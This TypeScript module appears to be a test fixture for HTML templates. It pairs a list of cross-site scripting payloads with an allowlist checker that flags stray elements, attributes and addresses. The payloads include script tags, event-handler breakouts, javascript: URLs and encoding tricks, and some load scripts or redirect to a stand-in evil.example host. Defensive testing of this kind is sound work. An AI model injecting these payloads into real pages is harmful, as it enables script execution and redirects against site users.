/** Texts that try to become markup, script, style or a bad address; and a strict reading of what a page may contain. */

export const payloads = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg/onload=alert(1)//',
  '<body onload=alert(1)>',
  '<iframe src=javascript:alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<object data=javascript:alert(1)>',
  '<embed src=javascript:alert(1)>',
  '<a href=javascript:alert(1)>x</a>',
  '<math><mtext></p><img src onerror=alert(1)>',
  '<style>*{display:none}</style>',
  '<style>@import "//evil.example/x.css";</style>',
  '<link rel=stylesheet href=//evil.example>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<base href=//evil.example/>',
  '<form action=//evil.example><button>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)>',
  '<marquee onstart=alert(1)>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<xss id=x tabindex=1 onfocus=alert(1)></xss>',
  '"><script>alert(1)</script>',
  "'><script>alert(1)</script>",
  '" onmouseover="alert(1)',
  "' onmouseover='alert(1)",
  '" autofocus onfocus=alert(1) x="',
  '" style="position:fixed;inset:0',
  '` onmouseover=`alert(1)',
  '</title><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '</style><script>alert(1)</script>',
  '--><script>alert(1)</script>',
  ']]><script>alert(1)</script>',
  '</p></div></main></body><script>alert(1)</script>',
  '<!--',
  '<![CDATA[',
  '<?xml version="1.0"?>',
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'java\tscript:alert(1)',
  'java\nscript:alert(1)',
  '\u0001javascript:alert(1)',
  'javascript://x%0aalert(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:image/svg+xml,<svg onload=alert(1)>',
  'vbscript:msgbox(1)',
  'https://x.example/"onmouseover="alert(1)',
  'https://x.example/<script>alert(1)</script>',
  "https://x.example/'onclick='alert(1)",
  'mailto:x@y.example?body=<img src=x onerror=alert(1)>',
  'http://[::1',
  'https://x.example/ javascript:alert(1)',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '\u2028<script>alert(1)</script>\u2029',
  '<\u0000script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  '${alert(1)}',
  '{{constructor.constructor("alert(1)")()}}',
  '\u202e<img src=x onerror=alert(1)>',
  '<a id=csrf name=csrf>',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '"/><svg><animate onbegin=alert(1) attributeName=x>',
]

const elements = new Set(
  'html head meta title link body div main nav header footer section form fieldset legend h1 h2 h3 p span b s br a button ul ol li dl dt dd table caption thead tbody tr th td time details summary svg path rect label input select option textarea code iframe'.split(
    ' ',
  ),
)
const attributes = new Set(
  'lang charset name content media rel href type class id popover popovertarget role aria-label aria-labelledby aria-hidden aria-current aria-describedby aria-invalid scope datetime hreflang download viewBox d x y width height rx fill opacity method action enctype accept open value for required autocomplete maxlength min max placeholder readonly checked disabled selected hidden spellcheck rows tabindex title autofocus formaction formtarget sandbox'.split(
    ' ',
  ),
)
const tag = /<([a-z][a-z0-9]*)((?:\s[a-zA-Z-]+(?:="[^"<>]*")?)*)\/?>|<\/[a-z][a-z0-9]*>|<!doctype html>/g
const address = /^(?:[?#/]|https?:\/\/|mailto:|webcal:\/\/|tel:)/

/** Everything in a page that is not a tag, an attribute or an address that the templates write; empty for a sound page. */
export function faultsOf(page: string): string[] {
  const faults: string[] = []
  const rest = page.replace(tag, (_whole, name?: string, inside?: string) => {
    if (name === undefined) return ''
    if (!elements.has(name)) faults.push(`element ${name}`)
    for (const [, attribute = '', value = ''] of (inside ?? '').matchAll(/\s([a-zA-Z-]+)(?:="([^"]*)")?/g)) {
      if (!attributes.has(attribute)) faults.push(`attribute ${attribute} of ${name}`)
      if (['href', 'action', 'formaction', 'src'].includes(attribute) && (!address.test(value) || value.startsWith('//')))
        faults.push(`address ${value}`)
      if (attribute === 'sandbox' && /allow-(?:scripts|same-origin|top)/.test(value)) faults.push(`sandbox ${value}`)
    }
    return ''
  })
  for (const match of rest.matchAll(/[<>]/g)) faults.push(`loose ${rest.slice(match.index, match.index + 40)}`)
  return faults
}
